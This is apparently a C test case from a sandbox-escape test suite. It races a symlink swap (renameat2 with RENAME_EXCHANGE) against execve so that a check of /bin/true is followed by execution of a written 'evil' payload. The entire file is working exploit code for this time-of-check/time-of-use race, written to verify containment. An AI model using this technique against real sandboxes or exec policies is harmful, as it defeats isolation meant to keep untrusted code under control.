// A symbolic link is exchanged between the look at what it leads to and execve: /bin/true, then a written program.
#include "escape.h"
static void *swapper(void *arg)
{
	for (;;)
		renameat2(AT_FDCWD, "prog", AT_FDCWD, "other", RENAME_EXCHANGE);
	return NULL;
}
int main(void)
{
	int status;
	payload("evil");
	NEED(symlink("/bin/true", "prog")), NEED(symlink("evil", "other"));
	racer(swapper, NULL);
	for (int i = 0; i < rounds() / 10; i++) {
		pid_t pid = NEED(vfork());
		if (pid == 0)
			execl("./prog", "prog", NULL), _exit(1);
		waitpid(pid, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == 42)
			escaped();
	}
	errno = EAGAIN, contained("every round");
}
